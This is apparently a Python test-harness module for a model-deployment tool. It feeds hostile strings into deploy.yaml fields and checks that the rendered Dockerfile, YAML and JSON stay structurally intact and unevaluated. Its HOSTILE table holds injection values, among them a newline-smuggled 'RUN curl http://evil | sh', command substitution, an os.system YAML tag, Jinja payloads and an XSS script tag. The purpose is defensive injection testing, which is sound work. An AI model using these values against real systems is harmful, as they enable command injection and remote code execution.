"""A reusable corpus of hostile values, the user-controlled fields they go into, and the parsers that
read each artifact format back.

Use it for any target::

    for case in cases(kind):                      # every (field, value) that applies to the kind
        outcome = run_case(kind, case, workdir)   # "rejected MDxxx" | "exact" | "contained" | "absent"

A case either fails with a ModelDeployError (any other exception is a bug) or renders; a render must
(1) keep the artifact's structure — the same Dockerfile instructions / YAML and JSON key paths as a
render with a benign value, so nothing was injected — and (2) carry the value byte-exact wherever it
appears, read back through the artifact's own parser (Dockerfile: :func:`parse_dockerfile` below;
YAML: yaml.safe_load; JSON: json.loads), and (3) never evaluate it as a template.
"""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

from modeldeploy.errors import ModelDeployError

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_MODEL = REPO / "examples" / "iris" / "model"

# What a template engine would make of the TEMPLATE values; must never appear in any artifact.
EVALUATED = "<<1337>>"

HOSTILE: dict[str, str] = {
    "newline": "a\nRUN curl http://evil | sh",
    "cr": "a\rb",
    "crlf": "a\r\nb: c",
    "double-quote": 'say "hi"',
    "single-quote": "it's",
    "subshell": "$(id)",
    "dollar-brace": "${HOME}/x",
    "dollar": "$HOME",
    "backtick": "`id`",
    "jinja-expr": "<<{{ 7*191 }}>>",
    "jinja-stmt": "<<{% if true %}1337{% endif %}>>",
    "jinja-comment": "a{# c #}b",
    "colon-space": "a: b",
    "hash": "a #b",
    "hash-start": "#b",
    "yaml-flow": "{a: [b]}",
    "yaml-tag": "!!python/object/apply:os.system ['id']",
    "yaml-anchor": "&a *a",
    "yaml-bool": "yes",
    "yaml-null": "~",
    "yaml-int": "0x1F",
    "leading-dash": "- x",
    "u2028": "a\u2028b",
    "u2029": "a\u2029b",
    "u0085": "a\u0085b",
    "nul": "a\x00b",
    "tab": "a\tb",
    "backslash": "a\\b",
    "trailing-backslash": "a\\",
    "unicode": "caf\u00e9 \u4e2d \U0001f600",
    "bidi": "a\u202eb\u200b",
    "spaces": "  a  ",
    "html": "<script>alert(1)</script>",
    "json": '{"a": 1}',
    "long": "x" * 100_000,
}

BENIGN = "benign-probe"


@dataclass(frozen=True)
class Field:
    """A user-controlled string in deploy.yaml. ``path`` is where it goes in the spec data; a path
    ending in ``KEY`` puts the value in a mapping key instead. ``kinds`` limits it to some targets
    (empty: all). ``benign`` is a valid value of the same kind, for the baseline render. ``contained``:
    the value is part of a bigger string (a URI, a path) rather than a whole leaf."""

    id: str
    path: tuple[str, ...]
    kinds: frozenset[str] = frozenset()
    benign: str = BENIGN
    contained: bool = False
    wrap: Callable[[str], str] = staticmethod(lambda v: v)  # type: ignore[assignment]
    model_dir: bool = False  # the value names the model folder (model.source)


def _f(id: str, path: str, kinds: str = "", **kw: Any) -> Field:
    return Field(id, tuple(path.split(".")), frozenset(kinds.split()) if kinds else frozenset(), **kw)


FIELDS: tuple[Field, ...] = (
    _f("serving.env value", "serving.env.PROBE"),
    _f("serving.env key", "serving.env.KEY", benign="BENIGN_PROBE"),
    _f("labels value", "labels.probe"),
    _f("labels key", "labels.KEY"),
    _f("name", "name"),
    _f("secret name", "serving.secrets.PROBE_SECRET.secret"),
    _f("secret key", "serving.secrets.PROBE_SECRET.key"),
    _f("model source folder", "model.source", contained=True, wrap=lambda v: "./m-" + v, model_dir=True),
    _f("register name", "model.register.name"),
    _f("register tag", "model.register.tags.probe"),
    _f("register description", "model.register.description"),
    _f("waiver reason", "signature.waivers.0.reason"),
    _f("docker image", "target.image", "docker", benign="registry.example.com/benign-probe:1"),
    _f("docker base_image", "target.base_image", "docker", benign="python:3.11-slim"),
    _f("docker platform", "target.platform", "docker", benign="linux/amd64"),
    _f("docker pip_index_url", "target.pip_index_url", "docker", benign="https://pypi.example.com/simple"),
    _f("kubernetes image", "target.image", "kubernetes", benign="registry.example.com/benign-probe:1"),
    _f("kubernetes namespace", "target.namespace", "kubernetes"),
    _f("kubernetes ingress host", "target.ingress.host", "kubernetes", benign="benign-probe.example.com"),
    _f("kubernetes ingress annotation", "target.ingress.annotations.probe", "kubernetes"),
    _f("kubernetes service account annotation", "target.service_account.annotations.probe", "kubernetes"),
    _f("kubernetes image pull secret", "target.image_pull_secrets.0", "kubernetes"),
    _f(
        "sagemaker image",
        "target.image",
        "sagemaker",
        benign="123456789012.dkr.ecr.eu-west-1.amazonaws.com/benign-probe:1",
    ),
    _f("sagemaker tag", "target.tags.probe", "sagemaker"),
    _f("sagemaker endpoint_name", "target.endpoint_name", "sagemaker"),
    _f("sagemaker artifact_prefix", "target.artifact_prefix", "sagemaker"),
    _f(
        "sagemaker execution_role_arn",
        "target.execution_role_arn",
        "sagemaker",
        benign="arn:aws:iam::123456789012:role/benign-probe",
    ),
    _f("azureml endpoint_name", "target.endpoint_name", "azureml"),
    _f("azureml workspace", "target.workspace", "azureml"),
    _f(
        "azureml environment_image",
        "target.environment_image",
        "azureml",
        benign="mcr.microsoft.com/azureml/benign-probe:1",
    ),
    _f("azureml instance_type", "target.instance_type", "azureml", benign="Standard_DS3_v2"),
)

BASE: dict[str, Any] = {
    "apiVersion": "modeldeploy/v1",
    "name": "probe",
    "model": {"source": "../model", "register": {"name": "probe"}},
    "signature": {"required": False, "waivers": [{"rule": "SIG102", "reason": "baseline"}]},
    "serving": {
        "env": {"LOG_LEVEL": "info"},
        "secrets": {"API_TOKEN": {"secret": "s", "key": "k"}, "PROBE_SECRET": {"secret": "s2", "key": "k2"}},
    },
    "labels": {"team": "ml"},
}

TARGETS: dict[str, dict[str, Any]] = {
    "docker": {"kind": "docker"},
    "kubernetes": {"kind": "kubernetes", "namespace": "models", "ingress": {"host": "probe.example.com"}},
    "sagemaker": {
        "kind": "sagemaker",
        "region": "eu-west-1",
        "execution_role_arn": "arn:aws:iam::123456789012:role/sagemaker-exec",
        "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/iris:abababababab",
        "artifact_bucket": "ml-artifacts",
    },
    "azureml": {
        "kind": "azureml",
        "subscription_id": "00000000-0000-0000-0000-000000000000",
        "resource_group": "ml-rg",
        "workspace": "ml-ws",
    },
}


@dataclass(frozen=True)
class Case:
    field: Field
    value_id: str
    value: str

    @property
    def id(self) -> str:
        return f"{self.field.id}={self.value_id}"


def fields_for(kind: str) -> list[Field]:
    return [f for f in FIELDS if not f.kinds or kind in f.kinds]


def cases(kind: str, values: dict[str, str] = HOSTILE) -> Iterator[Case]:
    for f in fields_for(kind):
        for vid, v in values.items():
            yield Case(f, vid, v)


# --- building a deploy.yaml with one value in one field ---------------------------------------------


def spec_with(kind: str, fld: Field, value: str) -> dict[str, Any]:
    data = copy.deepcopy(BASE)
    data["target"] = copy.deepcopy(TARGETS[kind])
    node: Any = data
    for i, part in enumerate(fld.path[:-1]):
        nxt = fld.path[i + 1]
        if isinstance(node, list):
            node = node[int(part)]
            continue
        if part not in node:
            node[part] = [] if nxt.isdigit() else {}
        node = node[part]
    last = fld.path[-1]
    text = fld.wrap(value)
    if last == "KEY":
        node[text] = "v"
    elif isinstance(node, list):
        idx = int(last)
        if idx < len(node):
            node[idx] = text
        else:
            node.append(text)
    else:
        node[last] = text
    return data


def write_case(workdir: Path, kind: str, fld: Field, value: str) -> Path:
    """``workdir/case/deploy.yaml`` for one value; the model is ``workdir/model`` (copied once), or
    for the model-folder field a copy named after the value (when the file system can name it — if
    not, deploy.yaml still names it and loading must fail cleanly)."""
    data = spec_with(kind, fld, value)
    if not (workdir / "model").is_dir():
        shutil.copytree(EXAMPLE_MODEL, workdir / "model")
    case = workdir / "case"
    if case.exists():
        shutil.rmtree(case)
    case.mkdir(parents=True)
    if fld.model_dir:
        folder = data["model"]["source"][2:]
        try:
            if "/" in folder or "\x00" in folder or folder in (".", ".."):
                raise OSError("not a file name")
            shutil.copytree(EXAMPLE_MODEL, case / folder)
        except (OSError, ValueError, UnicodeError):
            pass
    text = yaml.safe_dump(data, allow_unicode=False, sort_keys=False, width=1_000_000)
    (case / "deploy.yaml").write_text(text, encoding="utf-8")
    return case / "deploy.yaml"


# --- reading artifacts back ------------------------------------------------------------------------

DOCKERFILE_INSTRUCTIONS = {
    "FROM",
    "RUN",
    "CMD",
    "LABEL",
    "EXPOSE",
    "ENV",
    "ADD",
    "COPY",
    "ENTRYPOINT",
    "VOLUME",
    "USER",
    "WORKDIR",
    "ARG",
    "ONBUILD",
    "STOPSIGNAL",
    "HEALTHCHECK",
    "SHELL",
    "MAINTAINER",
}


class Expansion(str):
    """A Dockerfile word that the builder would variable-expand (an unescaped ``$``)."""


@dataclass
class Instruction:
    keyword: str
    raw: str
    line: int
    pairs: list[tuple[str, str]] = field(default_factory=list)  # ENV/LABEL/ARG key=value
    words: list[str] = field(default_factory=list)


def _lex_words(text: str) -> list[str]:
    """BuildKit's shell-word rules for ENV/LABEL/ARG (frontend/dockerfile/shell/lex.go): whitespace
    separates words; inside "..." only \\" \\$ \\\\ are escapes; '...' is literal; outside quotes
    ``\\x`` is x; an unescaped ``$`` marks the word as expanded."""
    words: list[str] = []
    cur: list[str] = []
    expanded = False
    i, n = 0, len(text)
    in_word = False
    while i < n:
        ch = text[i]
        if ch in " \t" and not in_word:
            i += 1
            continue
        if ch in " \t":
            words.append(Expansion("".join(cur)) if expanded else "".join(cur))
            cur, expanded, in_word = [], False, False
            i += 1
            continue
        in_word = True
        if ch == '"':
            i += 1
            while i < n and text[i] != '"':
                c = text[i]
                if c == "\\" and i + 1 < n and text[i + 1] in '"$\\':
                    cur.append(text[i + 1])
                    i += 2
                    continue
                if c == "$":
                    expanded = True
                cur.append(c)
                i += 1
            if i >= n:
                raise ValueError(f"unterminated double quote in {text!r}")
            i += 1
        elif ch == "'":
            j = text.find("'", i + 1)
            if j < 0:
                raise ValueError(f"unterminated single quote in {text!r}")
            cur.append(text[i + 1 : j])
            i = j + 1
        elif ch == "\\" and i + 1 < n:
            cur.append(text[i + 1])
            i += 2
        else:
            if ch == "$":
                expanded = True
            cur.append(ch)
            i += 1
    if in_word:
        words.append(Expansion("".join(cur)) if expanded else "".join(cur))
    return words


def parse_dockerfile(text: str) -> tuple[list[str], list[Instruction]]:
    """(comments, instructions). Lines split on \\n only, as BuildKit's scanner does (\\r trimmed);
    a line ending in ``\\`` continues; comment lines inside a continuation are dropped."""
    comments: list[str] = []
    out: list[Instruction] = []
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i].rstrip("\r")
        start = i + 1
        i += 1
        stripped = line.strip()
        if not stripped:
            continue
        if stripped.startswith("#"):
            comments.append(stripped[1:].lstrip(" "))
            continue
        parts = [line]
        while parts[-1].rstrip().endswith("\\") and i < len(lines):
            parts[-1] = parts[-1].rstrip()[:-1]
            nxt = lines[i].rstrip("\r")
            i += 1
            if nxt.strip().startswith("#"):
                continue
            parts.append(nxt)
        logical = "".join(parts).strip()
        keyword, _, rest = logical.partition(" ")
        keyword = keyword.upper()
        if keyword not in DOCKERFILE_INSTRUCTIONS:
            raise ValueError(f"line {start}: not a Dockerfile instruction: {logical[:80]!r}")
        ins = Instruction(keyword, rest.strip(), start)
        if keyword in ("ENV", "LABEL", "ARG"):
            for word in _lex_words(rest):
                key, eq, value = word.partition("=")
                if not eq:
                    raise ValueError(f"line {start}: {keyword} word without '=': {word!r}")
                ins.pairs.append((key, Expansion(value) if isinstance(word, Expansion) else value))
        elif keyword not in ("RUN", "CMD", "ENTRYPOINT", "HEALTHCHECK", "SHELL"):
            ins.words = _lex_words(rest)
        out.append(ins)
    return comments, out


@dataclass(frozen=True)
class Parsed:
    """An artifact read back: its structure (to compare with the baseline) and its string leaves."""

    shape: tuple[Any, ...]
    leaves: tuple[str, ...]


def _walk(data: Any, path: tuple[Any, ...], marker: str, shape: list, leaves: list) -> None:
    if isinstance(data, dict):
        for k, v in data.items():
            key = "<probe>" if isinstance(k, str) and marker and marker in k else k
            if isinstance(k, str):
                leaves.append(k)
            _walk(v, path + (key,), marker, shape, leaves)
    elif isinstance(data, list):
        # "*" for the index: lists rendered in sorted order (env, tags) may put the probe elsewhere;
        # the shape stays a multiset, so an injected extra item still shows.
        for v in data:
            _walk(v, path + ("*",), marker, shape, leaves)
    else:
        if isinstance(data, str):
            leaves.append(data)
        shape.append((path, type(data).__name__))


def parse_artifact(path: str, content: bytes, marker: str) -> Parsed | None:
    """Read an artifact back with its format's parser; None for files that are copies/opaque."""
    if path == "Dockerfile" or path.endswith("/Dockerfile"):
        comments, instructions = parse_dockerfile(content.decode("utf-8"))
        shape = []
        leaves = list(comments)
        for ins in instructions:
            # Sorted: ENV keys are rendered in sorted order, so a different key may sit elsewhere.
            keys = tuple(sorted("<probe>" if marker and marker in k else k for k, _ in ins.pairs))
            shape.append((ins.keyword, keys))
            for k, v in ins.pairs:
                if isinstance(v, Expansion):  # ENV PATH="/opt/venv/bin:${PATH}" is the template's own
                    if marker and marker in v:
                        raise ValueError(f"Dockerfile line {ins.line}: {ins.keyword} {k} would be variable-expanded")
                    continue
                leaves += [k, v]
            leaves += ins.words
        return Parsed(tuple(shape), tuple(leaves))
    if path.endswith((".yaml", ".yml")):
        docs = list(yaml.safe_load_all(content.decode("utf-8")))
        shape: list = []
        leaves: list = []
        _walk(docs, (), marker, shape, leaves)
        return Parsed(tuple(sorted(shape, key=repr)), tuple(leaves))
    if path.endswith(".json"):
        shape, leaves = [], []
        _walk(json.loads(content.decode("utf-8")), (), marker, shape, leaves)
        return Parsed(tuple(sorted(shape, key=repr)), tuple(leaves))
    return None


# --- one case end to end --------------------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    kind: str  # "rejected" | "exact" | "contained" | "absent"
    detail: str = ""  # the error code for rejected; the artifacts holding the value otherwise


def render_files(deploy: Path) -> dict[str, bytes]:
    from modeldeploy import api

    return {a.path: a.content for a in api.render(api.load(deploy, environ={})).artifacts if a.source is None}


def outcome(kind: str, fld: Field, value: str, workdir: Path, baseline: dict[str, Parsed]) -> Outcome:
    """Render ``value`` in ``fld``; assert the corpus properties; say what happened."""
    deploy = write_case(workdir, kind, fld, value)
    try:
        files = render_files(deploy)
    except ModelDeployError as exc:
        assert exc.lines(), "an error must say something"
        for line in exc.lines():
            assert "\n" not in line and "\r" not in line, f"error message spans lines: {line!r}"
        return Outcome("rejected", exc.code)
    text = fld.wrap(value)
    where_exact, where_contained = [], []
    for path, content in sorted(files.items()):
        assert EVALUATED.encode() not in content, f"{path}: user data was evaluated as a template"
        parsed = parse_artifact(path, content, text)
        if parsed is None:
            continue
        base = baseline.get(path)
        if base is not None:
            assert parsed.shape == base.shape, f"{path}: structure differs from the benign render (injection?)"
        if any(leaf == text for leaf in parsed.leaves):
            where_exact.append(path)
        elif any(text in leaf for leaf in parsed.leaves):
            where_contained.append(path)
    if where_exact:
        return Outcome("exact", ", ".join(where_exact))
    if where_contained:
        return Outcome("contained", ", ".join(where_contained))
    return Outcome("absent")


def baseline(kind: str, fld: Field, workdir: Path) -> dict[str, Parsed]:
    deploy = write_case(workdir, kind, fld, fld.benign)
    files = render_files(deploy)
    out = {}
    for path, content in files.items():
        parsed = parse_artifact(path, content, fld.wrap(fld.benign))
        if parsed is not None:
            out[path] = parsed
    return out
